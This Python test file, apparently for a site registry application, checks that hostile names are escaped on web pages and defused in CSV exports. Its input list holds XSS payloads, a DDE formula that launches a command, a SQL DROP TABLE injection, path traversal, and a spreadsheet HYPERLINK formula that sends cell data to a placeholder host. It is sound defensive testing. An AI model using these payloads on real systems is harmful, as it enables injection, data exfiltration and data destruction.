"""Names that break what is written carelessly: shown as they are on every page of the centre, defused in every file."""

import csv
from html import unescape
from io import StringIO

from markupsafe import escape

from registry.guard.acts import Act, note
from tests.support.centres import HOUR_MS, NINE_MS, Centre
from tests.support.faces import account, reader
from tests.support.programmes import session, with_programmes

NAUGHTY = (
    "<script>alert(1)</script>",
    '=HYPERLINK("http://x.test?"&A1,"1")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "Robert'); DROP TABLE person;--",
    "{{ 7 * 7 }} {name} %s %(name)s",
    '" onmouseover="alert(1)',
    "NULL",
    "../../etc/passwd",
    "مرحبا بالعالم",
    "田中さん 👩‍👩‍👧",
    "Ω≈ç√∫˜µ≤≥÷",
    "zero\u200bwidth",
    "&lt;b&gt; &amp;",
    "x" * 120,
)
PAGES = (
    "/people?q={q}",
    "/people/{person}",
    "/people/{person}/edit",
    "/people/{person}/new/right",
    "/people/{person}/held/right/{site}/end",
    "/people-chosen?do=suspend&one={person}",
    "/badges",
    "/badges/{badge}/revoke",
    "/enrol/people/{person}",
    "/audit?kind=badge-revoked",
    "/audit/acts.csv?kind=badge-revoked",
    "/search?q={q}",
)
"""Where a person's name stands; ``{q}`` is a part of it that finds it."""
OF_SITES = ("/people/{person}", "/closures", "/closures-new?site={site}", "/imports", "/search?q={site}")
FILES = ("people", "badges", "bookings", "sessions")


def test_a_name_is_shown_as_it_is_on_every_page_and_runs_in_no_file(both: Centre) -> None:
    with_programmes(both)
    account(both, "clara", administrator="1")
    with reader(both) as browser:
        browser.signed_in("clara")
        for number, name in enumerate(NAUGHTY):
            place = {"site": f"s{number}", "person": "", "badge": ""}
            both.registry.add_site(place["site"], name)
            both.made(f"/sites/{place['site']}/resources", {"id": "d1", "kind": "desk", "name": name, "zone": "hall"})
            place["person"] = both.admit(place["site"], name)
            place["badge"] = both.made(f"/people/{place['person']}/badges", {"uid": f"04A1B2C3D4{number:04X}"})["id"]
            closed = {"start_ms": NINE_MS, "end_ms": NINE_MS + HOUR_MS, "why": name, "resource": "d1"}
            both.made(f"/sites/{place['site']}/closures", closed)
            with both.database.write() as connection:
                note(connection, Act("badge-revoked", person=place["person"], site=place["site"]), NINE_MS)
            for path in (*PAGES, *OF_SITES):
                page = browser.look(path.format(**place, q=place["person"]))
                assert page.status_code == 200, path
                if path.startswith("/audit/"):
                    continue
                assert name in unescape(page.text), (path, name)
                assert str(escape(name)) in page.text, (path, name)
        session(both, title=NAUGHTY[1], zone="hall")
        both.made("/programmes", {"id": "odd", "name": NAUGHTY[0], "zones": {}})
        assert str(escape(NAUGHTY[0])) in browser.look("/search?q=odd").text
        for path in (*(f"/exports/{kind}" for kind in FILES), "/audit/acts.csv?kind=badge-revoked"):
            rows = csv.reader(StringIO(browser.look(path).text.lstrip("\ufeff"), newline=""), delimiter=";")
            for cell in (cell for row in rows for cell in row):
                assert not cell.startswith(("=", "+", "-", "@")), (path, cell)
        people = browser.look("/exports/people").text
        assert people.count("'=HYPERLINK") == people.count("'@SUM") == 1
        assert "مرحبا بالعالم" in people
